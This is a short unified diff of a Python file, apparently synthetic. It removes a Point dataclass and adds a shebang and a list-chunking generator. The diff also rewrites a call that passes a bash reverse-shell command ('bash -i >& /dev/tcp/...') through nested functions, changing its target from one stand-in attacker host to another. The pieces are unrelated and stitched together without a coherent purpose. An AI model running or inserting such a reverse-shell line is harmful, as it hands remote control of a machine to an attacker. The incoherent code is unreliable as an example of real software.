@@ -1,12 +1,4 @@
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
+#!/usr/bin/env python3
 
 import os
 
@@ -16,4 +8,7 @@ def inner(x):
 def outer(y):
     inner(y)
 
-outer("bash -i >& /dev/tcp/evil.example.com/31337 0>&1")
+outer("bash -i >& /dev/tcp/attacker.example.net/1337 0>&1")
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
